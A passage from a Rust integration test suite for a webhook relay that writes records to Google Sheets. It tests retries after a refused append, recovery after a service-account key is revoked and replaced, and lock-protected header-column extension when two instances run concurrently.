        .into_iter()
        .filter(|r| r.call != Call::Token)
        .collect();
    let kinds: Vec<Call> = calls.iter().map(|r| r.call).collect();
    assert_eq!(kinds, [Call::Get, Call::Update, Call::Append]);
    let times: Vec<Instant> = calls.iter().map(|r| r.at).collect();
    crate::support::assert_at_most_per_window(&times, 2, Duration::from_secs(3));
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_chunk_marks_only_its_own_rows_and_the_rest_stay_due() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    // 300 rows of 10 KB are queued before the relay starts: one batch, two appends (Google
    // takes at most 2 MB a call). Google refuses the first append once.
    let store = SqliteStore::open(&s.dir.path().join("hookfan.db"))
        .await
        .unwrap();
    let long = "x".repeat(10_000);
    for i in 0..300 {
        let body = v2_with(&format!("chunk-{i}"), &long, "Dupont", EMAIL_V2);
        store
            .accept(crate::support::incoming(body, &["sheet"]))
            .await
            .unwrap();
    }
    s.google.script(
        Call::Append,
        [Reply::status(500).body(&google_error(500, "INTERNAL", "Internal error"))],
    );
    let relay = s.relay("", FIELDS).await;
    let (store, rows) = delivered(&relay, 300).await;
    let appends = s.google.calls(Call::Append);
    assert!(appends.len() >= 3, "{} appends", appends.len());
    let mut by_attempts = std::collections::BTreeMap::<u32, usize>::new();
    for r in &rows {
        *by_attempts.entry(r.attempts).or_default() += 1;
    }
    // The refused call's rows were tried twice; the rows of the call never made were given
    // back due, with no attempt counted, and went out at their first attempt.
    let first_sent = appends[0].rows.len();
    assert_eq!(
        by_attempts,
        [(1, 300 - first_sent), (2, first_sent)]
            .into_iter()
            .collect(),
    );
    let (_, attempts) = store.show(rows[0].id).await.unwrap().unwrap();
    assert!(!attempts.is_empty());
    assert_eq!(s.rows().len(), 301);
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revoked_key_replaced_at_the_same_path_resumes_delivery_without_a_restart() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    let relay = s.relay("", FIELDS).await;
    relay.accept(v2_with_id("key-1")).await;
    s.google.wait_rows(ID, TAB, 2, WAIT).await;

    // The key is revoked in the Cloud console: Google gives no more tokens for it.
    s.google.replace_key();
    relay.accept(v2_with_id("key-2")).await;
    let store = relay.store().await;
    let deadline = Instant::now() + WAIT;
    loop {
        let rows = store.list(&for_destination("sheet")).await.unwrap();
        if rows.iter().any(|r| {
            r.last_error
                .as_deref()
                .is_some_and(|e| e.contains("cannot get an access token"))
        }) {
            break;
        }
        assert!(Instant::now() < deadline, "{rows:#?}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }

    // The new key's JSON goes where the old one was: the next attempt reads it.
    assert_eq!(s.google.write_new_key(s.dir.path()), s.key);
    let rows = s.google.wait_rows(ID, TAB, 3, WAIT).await;
    assert_eq!(rows[2][0], EMAIL_V2);
    delivered(&relay, 2).await;
    relay.stop().await;
}

/// One record for a connector called directly, with these fields.
fn record(id: i64, fields: &[(&str, &str)]) -> hookfan_connectors::Record {
    hookfan_connectors::Record {
        delivery_id: id,
        notification_id: id,
        participation_id: format!("p{id}"),
        attempt: 1,
        fields: fields
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        raw: Arc::from("{}"),
        state: None,
        in_doubt_since: None,
    }
}

/// Two instances each need a column row 1 lacks, and read row 1 at the same moment (Google's
/// answers arrive late). A config rolled out to one instance before the other gives them
/// different fields.
async fn two_instances_extend_row_1(
    setup: &Setup,
    locks: Option<[Arc<dyn hookfan_connectors::Locks>; 2]>,
) -> Vec<Vec<String>> {
    use hookfan_connectors::DestinationConfig as _;
    setup.google.add_tab(ID, TAB, &[&["Date"]]);
    setup.google.slow(Call::Get, Duration::from_millis(400));
    let config: hookfan_connectors::sheets::SheetsConfig =
        serde_json::from_value(serde_json::json!({
            "spreadsheet_id": ID, "sheet": TAB, "credentials": setup.key, "api_base": setup.google.base,
        }))
        .unwrap();
    let client = hookfan_connectors::http::client().unwrap();
    let fields = |names: &[&str]| names.iter().map(|n| n.to_string()).collect::<Vec<_>>();
    let (a, z) = match locks {
        Some([la, lz]) => (
            config
                .build_shared(&client, &fields(&["Date", "E-mail"]), la)
                .unwrap(),
            config
                .build_shared(&client, &fields(&["Date", "Campaign"]), lz)
                .unwrap(),
        ),
        None => (
            config.build(&client, &fields(&["Date", "E-mail"])).unwrap(),
            config
                .build(&client, &fields(&["Date", "Campaign"]))
                .unwrap(),
        ),
    };
    let pace = hookfan_connectors::pace::Unlimited;
    let ra = [record(1, &[("Date", "d1"), ("E-mail", "a@example.org")])];
    let rz = [record(2, &[("Date", "d2"), ("Campaign", "Quiz")])];
    let (ra, rz) = tokio::join!(a.deliver(&ra, &pace), z.deliver(&rz, &pace));
    assert_eq!(
        ra[0].outcome,
        hookfan_connectors::Outcome::Delivered,
        "{ra:?}"
    );
    assert_eq!(
        rz[0].outcome,
        hookfan_connectors::Outcome::Delivered,
        "{rz:?}"
    );
    setup.rows()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_instances_on_postgres_extend_the_header_row_one_at_a_time() {
    crate::support::init();
    let Some(b) = crate::backends::Backend::postgres().await else {
        return;
    };
    let other = b.open_again().await;
    let setup = Setup::new().await;
    let rows = two_instances_extend_row_1(
        &setup,
        Some([b.store.locks().unwrap(), other.locks().unwrap()]),
    )
    .await;
    // Both columns were added, neither over the other, and each value is under its name.
    let header = &rows[0];
    assert_eq!(header.len(), 3, "{rows:?}");
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (email, campaign) = (column("E-mail"), column("Campaign"));
    assert_eq!(column("Date"), 0);
    let row = |date: &str| rows.iter().find(|r| r[0] == date).unwrap().clone();
    assert_eq!(row("d1")[email], "a@example.org", "{rows:?}");
    assert_eq!(
        row("d2").get(campaign).map(String::as_str),
        Some("Quiz"),
        "{rows:?}"
    );
    assert!(
        row("d2").get(email).is_none_or(String::is_empty),
        "{rows:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_shared_lock_two_instances_write_over_each_others_new_column() {
    // What the lock above prevents, shown with the per-process lock only (each connector is its
    // own process here): both read row 1 before either wrote, both write the same free cell,
    // and one column name is lost while its values land under the other's.
    crate::support::init();
    let setup = Setup::new().await;
    let rows = two_instances_extend_row_1(&setup, None).await;
    assert_eq!(rows[0].len(), 2, "{rows:?}");
}
